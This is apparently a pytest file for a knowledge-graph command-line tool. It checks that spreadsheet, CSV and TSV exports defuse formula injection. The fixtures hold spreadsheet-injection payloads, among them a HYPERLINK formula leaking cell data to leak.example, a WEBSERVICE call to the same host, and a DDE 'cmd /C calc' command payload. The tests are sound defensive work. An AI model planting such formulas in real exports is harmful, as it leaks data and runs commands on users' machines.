"""No spreadsheet output holds a live formula (issue 27): a text from the data that starts like a formula is a text
cell in the workbook, and gets a leading ' in every CSV or TSV meant for spreadsheets, unless --raw."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import run_kg

HOSTILE = {
    "label": '=HYPERLINK("http://leak.example/?d="&A1,"open me")',
    "description": '=WEBSERVICE("http://leak.example/")',
    "note": "+cmd|' /C calc'!A0",
    "alias": "@SUM(1+1)",
    "minus": "-2+3",
}

q = json.dumps  # a JSON string is a YAML double-quoted scalar
ENTITY = f"""
- id: hostile-cell
  type: Incident
  label: {{en: {q(HOSTILE["label"])}, es: Celda hostil}}
  aliases: [{q(HOSTILE["alias"])}, {q(HOSTILE["minus"])}]
  description: {{en: {q(HOSTILE["description"])}, es: Una descripción.}}
  note: {q(HOSTILE["note"])}
  eventType: armed-clash
  date: 2019-10-18
  place: culiacan
  cite: article-a §body ¶2
  statements:
    - killed: 2
      cite: article-a §body ¶2
"""


@pytest.fixture
def hostile_graph(mini_graph):
    (mini_graph / "hostile.yaml").write_text(ENTITY, encoding="utf-8")
    done = run_kg("validate", "--graph", str(mini_graph))
    assert done.returncode == 0, done.stderr
    return mini_graph


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def test_the_workbook_has_no_formula_cell(hostile_graph, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "book.xlsx"
    done = run_kg("export", "--format", "xlsx", "--graph", str(hostile_graph), "-o", str(out))
    assert done.returncode == 0, done.stderr
    book = load_workbook(out)
    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in book for row in sheet.iter_rows()
                for cell in row if cell.data_type == "f"]
    assert formulas == []
    texts = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
    assert HOSTILE["label"] in texts and HOSTILE["description"] in texts, "the text is kept exactly, as text"


@pytest.mark.parametrize("raw", [False, True])
def test_network_csv_and_acled_csv(hostile_graph, tmp_path, raw):
    flag = ["--raw"] if raw else []
    done = run_kg("export", "--format", "csv", "--graph", str(hostile_graph), "-o", str(tmp_path / "net"), *flag)
    assert done.returncode == 0, done.stderr
    nodes = cells((tmp_path / "net" / "nodes.csv").read_text(encoding="utf-8-sig"))
    acled = run_kg("export", "--format", "acled", "--graph", str(hostile_graph), "-o", "-", *flag)
    assert acled.returncode == 0, acled.stderr
    row = next(r for r in csv.DictReader(io.StringIO(acled.stdout)) if r["event_id_cnty"] == "mxsec:hostile-cell")
    if raw:
        assert HOSTILE["label"] in nodes and HOSTILE["description"] in nodes
        assert row["notes"] == HOSTILE["description"]
    else:
        assert "'" + HOSTILE["label"] in nodes and "'" + HOSTILE["description"] in nodes
        assert row["notes"] == "'" + HOSTILE["description"]
        assert not [c for c in nodes + list(row.values()) if c and c[0] in "=+@\t\r"]
        assert not [c for c in nodes if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]
    assert row["fatalities"] == "2", "numbers stay numbers"


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_query_and_find_outputs(hostile_graph, fmt, delimiter):
    query = ('SELECT ?label ?n WHERE { mx:hostile-cell rdfs:label ?label . FILTER(lang(?label) = "en") '
             'BIND(-17.5 AS ?n) }')
    safe = run_kg("query", "-e", query, "--graph", str(hostile_graph), "--format", fmt)
    raw = run_kg("query", "-e", query, "--graph", str(hostile_graph), "--format", fmt, "--raw")
    assert safe.returncode == raw.returncode == 0, safe.stderr + raw.stderr
    assert cells(safe.stdout, delimiter)[2:] == ["'" + HOSTILE["label"], "-17.5"]
    assert cells(raw.stdout, delimiter)[2:] == [HOSTILE["label"], "-17.5"]
    found = run_kg("find", "hostile", "--graph", str(hostile_graph), "--format", fmt)
    assert "'" + HOSTILE["label"] in cells(found.stdout, delimiter)


def test_raw_applies_only_where_there_is_something_to_guard(hostile_graph):
    done = run_kg("export", "--format", "ttl", "--raw", "--graph", str(hostile_graph))
    assert done.returncode == 2 and "--raw applies to" in done.stderr
